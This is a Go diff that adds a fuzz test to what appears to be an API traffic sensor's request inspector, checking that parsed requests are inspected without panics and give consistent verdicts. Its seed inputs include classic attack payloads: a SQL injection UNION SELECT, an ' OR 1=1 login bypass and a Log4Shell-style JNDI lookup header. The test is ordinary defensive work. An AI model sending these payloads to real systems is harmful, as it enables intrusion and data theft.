@@ -5,6 +5,8 @@ import (
 	"testing"
 	"time"
 
+	"github.com/apitap/apitap/sensor/flow"
+	"github.com/apitap/apitap/sensor/http1"
 	"github.com/apitap/apitap/sensor/sensortest"
 )
 
@@ -49,4 +51,39 @@ func TestObjectID(t *testing.T) {
 			t.Errorf("objectID(%q, %q) = %q, want %q", c.route, c.target, got, c.want)
 		}
 	}
+}
+
+// FuzzInspect: any request bytes the parser makes a request of are
+// inspected without panic, and the same request gives the same verdict.
+func FuzzInspect(f *testing.F) {
+	for _, s := range []string{
+		"GET /item?id=1+UNION+SELECT+1-- HTTP/1.1\r\nHost: a\r\n\r\n",
+		"POST /login HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 20\r\n\r\n{\"user\":\"a' OR 1=1\"}",
+		"POST /c HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 9\r\n\r\nb=%3Cx%3E",
+		"GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://x/a}\r\n\r\n",
+	} {
+		f.Add(s)
+	}
+	cl, sv := netip.MustParseAddrPort("10.0.0.1:40000"), netip.MustParseAddrPort("10.0.0.2:80")
+	f.Fuzz(func(t *testing.T, req string) {
+		var got *http1.Transaction
+		p := http1.NewParser(http1.Config{}, nil, func(x *http1.Transaction) {
+			if got == nil {
+				got = x
+			}
+		})
+		c := p.NewConn(flow.Key{A: cl, B: sv})
+		c.Data(flow.DirAB, 1, []byte(req), []flow.Span{{Seq: 1, AckOK: true}})
+		c.End(flow.DirAB)
+		c.Close()
+		if got == nil {
+			return
+		}
+		var a, b inspector
+		st1, in1 := a.inspect(&got.Request)
+		st2, in2 := b.inspect(&got.Request)
+		if st1 != st2 || in1 != in2 {
+			t.Fatalf("two verdicts: %q %q, %q %q", st1, in1, st2, in2)
+		}
+	})
 }
